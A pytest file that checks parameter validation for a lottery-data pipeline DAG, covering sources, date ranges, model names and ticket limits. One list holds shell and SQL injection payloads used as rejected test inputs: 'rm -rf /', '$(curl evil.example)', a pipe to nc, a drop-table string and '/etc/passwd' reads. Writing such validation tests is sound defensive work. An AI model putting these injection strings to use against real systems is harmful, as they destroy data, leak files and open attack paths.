"""Run Params: the JSON Schemas the DAG gives Airflow, and the second validation tasks do."""

from __future__ import annotations

import datetime as dt

import pytest

from pipeline.errors import ConfigError
from pipeline.games import get_game, load_games
from pipeline.orchestration.models import model_names
from pipeline.orchestration.params import MAX_TICKETS, param_specs, validate_params

PB = get_game("powerball")
PAYLOADS = [
    "data.csv; rm -rf /", "$(curl evil.example)", "`id`", "a.csv | nc 1.2.3.4 9",
    "x.csv && reboot", "'; drop table bronze.draws; --", "x' or '1'='1", "a.csv\nrm -rf /",
    "https://example.com/rows.csv?a=1&b=$(id)", "-rf", "--source=/etc/passwd", "a b.csv",
    "https://evil.example/x.csv#frag", "file:///etc/passwd", "> /tmp/x", "*.csv", "..\\x",
]


def test_defaults_are_valid_for_every_game():
    for game in load_games().values():
        params = validate_params(game, {})
        assert params.source == game.source_url
        assert not params.is_backfill and params.models is None and not params.dry_run


@pytest.mark.parametrize("source", [
    "/work/data/powerball/ny_open_data_export_2010_2025.csv", "data/x.csv", "./x.csv",
    "http://127.0.0.1:8765/rows.csv", PB.source_url,
])
def test_paths_and_urls_accepted(source):
    assert validate_params(PB, {"source": source}).source == source


@pytest.mark.parametrize("source", PAYLOADS)
def test_shell_and_sql_payloads_rejected(source):
    with pytest.raises(ConfigError, match="invalid parameter source"):
        validate_params(PB, {"source": source})


@pytest.mark.parametrize("value", ["2025-02-30", "20250101", "2025-1-1", "yesterday", "", 20250101])
def test_not_a_date_rejected(value):
    with pytest.raises(ConfigError, match="from_date"):
        validate_params(PB, {"from_date": value, "to_date": "2025-12-31"})


def test_backfill_range_rules():
    p = validate_params(PB, {"from_date": "2025-01-01", "to_date": "2025-03-01"})
    assert (p.from_date, p.to_date, p.is_backfill) == (dt.date(2025, 1, 1), dt.date(2025, 3, 1),
                                                        True)
    with pytest.raises(ConfigError, match="go together"):
        validate_params(PB, {"to_date": "2025-03-01"})
    with pytest.raises(ConfigError, match="after to_date"):
        validate_params(PB, {"from_date": "2025-03-02", "to_date": "2025-03-01"})
    with pytest.raises(ConfigError, match="first era"):
        validate_params(PB, {"from_date": "1980-01-01", "to_date": "1981-01-01"})


def test_models_enum_comes_from_the_registry_config():
    names = model_names()
    assert len(names) >= 5 and "random" in names
    assert param_specs(PB)["models"]["schema"]["items"]["enum"] == list(names)
    assert validate_params(PB, {"models": [names[0]]}).models == (names[0],)
    for bad in (["oracle"], [names[0], names[0]], [], "random", [1]):
        with pytest.raises(ConfigError, match="models"):
            validate_params(PB, {"models": bad})


def test_tickets_bounded_and_flags_typed():
    assert validate_params(PB, {"tickets": MAX_TICKETS}).tickets == MAX_TICKETS
    for bad in (0, -1, MAX_TICKETS + 1, 10**9, "5", 2.5, True):
        with pytest.raises(ConfigError, match="tickets"):
            validate_params(PB, {"tickets": bad})
    for name in ("dry_run", "retrain"):
        with pytest.raises(ConfigError, match=name):
            validate_params(PB, {name: "yes"})


def test_unknown_parameter_rejected():
    with pytest.raises(ConfigError, match="unknown parameter"):
        validate_params(PB, {"sources": "/x.csv"})
